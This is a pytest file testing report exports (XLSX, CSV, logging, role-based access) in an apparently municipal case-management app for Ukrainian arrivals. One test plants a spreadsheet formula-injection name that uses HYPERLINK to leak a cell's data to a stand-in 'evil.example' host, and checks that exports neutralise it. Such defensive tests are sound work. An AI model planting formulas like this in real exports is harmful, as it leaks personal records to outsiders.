"""Exports: XLSX and CSV (semicolons, UTF-8 with BOM), logged; managers' exports hold no person."""
import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.reports.factories import AS_OF, small_population
from velkomst.accounts import roles
from velkomst.audit.models import AccessLog


@pytest.fixture
def population(db):
    return small_population()


def test_the_dashboard_exports_as_a_workbook_with_every_figure(client_as, staff, population):
    response = client_as(staff[roles.MANAGER]).get("/reports/export.xlsx", {"as_of": AS_OF.isoformat()})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert len(book.sheetnames) == 6
    values = {row[1]: row[2] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)}
    assert values["ukrainians_living_in_municipality"] == 4 and values["employment_rate_job_ready"] == 0.5


def test_the_dashboard_exports_as_csv_for_danish_excel(client_as, staff, population):
    content = client_as(staff[roles.MANAGER]).get("/reports/export.csv", {"as_of": AS_OF.isoformat()}).content
    assert content.startswith("\ufeff".encode())
    lines = content.decode("utf-8-sig").splitlines()
    assert lines[0].count(";") == 3
    assert any(line.split(";")[1:3] == ["share_female", "0,5"] for line in lines)


def test_every_export_is_logged(client_as, staff, population):
    client = client_as(staff[roles.MANAGER])
    client.get("/reports/export.xlsx", {"as_of": AS_OF.isoformat()})
    client.get("/reports/figure/export.csv", {"figure": "share_female", "as_of": AS_OF.isoformat()})
    entries = AccessLog.objects.filter(action="export", user=staff[roles.MANAGER]).order_by("id")
    assert [(e.criteria["report"], e.criteria["format"]) for e in entries] == [("dashboard", "xlsx"), ("figure", "csv")]
    assert entries[1].criteria["figure"] == "share_female" and entries[1].person is None


def test_a_managers_drill_down_export_holds_counts_not_persons(client_as, staff, population):
    content = client_as(staff[roles.MANAGER]).get("/reports/figure/export.csv", {"figure": "ukrainians_living_in_municipality",
                                                                                   "as_of": AS_OF.isoformat()}).content.decode("utf-8-sig")
    for case in population.values():
        if hasattr(case, "person"):
            assert case.person.last_name not in content and case.number not in content
    book = client_as(staff[roles.MANAGER]).get("/reports/figure/export.xlsx", {"figure": "patients_remaining", "as_of": AS_OF.isoformat()})
    rows = list(load_workbook(io.BytesIO(book.content)).active.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][1] == 1  # the count alone


def test_admins_drill_down_export_lists_the_persons(client_as, staff, population):
    response = client_as(staff[roles.ADMIN]).get("/reports/figure/export.xlsx", {"figure": "ukrainians_employed", "as_of": AS_OF.isoformat()})
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[1][:2] == (population["u1"].person.full_name, population["u1"].number)
    assert len(rows[0]) == 4  # name, case number, target group, status: no sensitive field


def test_a_name_written_as_a_formula_stays_text_in_the_figure_exports(client_as, staff, population):
    person = population["u1"].person
    person.first_name, person.last_name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open record")', "O\x0bK"
    person.save()
    client = client_as(staff[roles.ADMIN])
    response = client.get("/reports/figure/export.xlsx", {"figure": "ukrainians_employed", "as_of": AS_OF.isoformat()})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
    content = client.get("/reports/figure/export.csv", {"figure": "ukrainians_employed", "as_of": AS_OF.isoformat()}).content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0].startswith("'=HYPERLINK")


def test_the_breakdown_counts_each_row_once_under_its_label(population):
    """Counted by code and labelled after (selectors.breakdown): the same as labelling every row."""
    from collections import Counter

    from velkomst.reports import figures, selectors

    rows = figures.case_rows(AS_OF)
    dims = dict(selectors.breakdown(rows, AS_OF))
    assert sum(cell.count for cell in dims["Målgruppe"]) == len(rows) > 0
    for cells in dims.values():
        assert sum(cell.count for cell in cells) == len(rows)
        assert len({cell.label for cell in cells}) == len(cells)  # one cell per label
    by_gender = Counter(str(selectors.GENDERS.get(r.gender, r.gender)) for r in rows)
    assert {cell.label: cell.count for cell in dims["Køn"]} == by_gender


@pytest.mark.parametrize("as_of_shift", [0, -40])
def test_every_figure_gives_the_same_count_and_breakdown_from_the_groups_as_from_the_cases(population, as_of_shift):
    """A manager's figure page reads the database's groups of cases (`services.figure_groups`), a list of persons
    the cases one by one: both give the same numbers, for every figure that can be opened."""
    from datetime import timedelta

    from tests.factories import make_case, make_person
    from velkomst.reports import figures, selectors
    from velkomst.reports.forms import drillable_choices

    for day in (3, 4, 5):  # three cases alike but for their birthday: one group of three
        make_case(person=make_person(gender="F", birth_date=date(1991, 1, day)), status="arrived", referral_decision_date=date(2026, 2, day))
    as_of = AS_OF + timedelta(days=as_of_shift)
    cases, groups = figures.case_rows(as_of), figures.case_groups(as_of)
    assert len(groups) < len(cases) and max(group.weight for group in groups) >= 3
    for key, _label in drillable_choices():
        from_cases = selectors.figure_rows(key=key, as_of=as_of, rows=cases)
        from_groups = selectors.figure_rows(key=key, as_of=as_of, rows=groups)
        assert sum(r.weight for r in from_groups) == len(from_cases), key
        assert selectors.breakdown(from_groups, as_of) == selectors.breakdown(from_cases, as_of), key
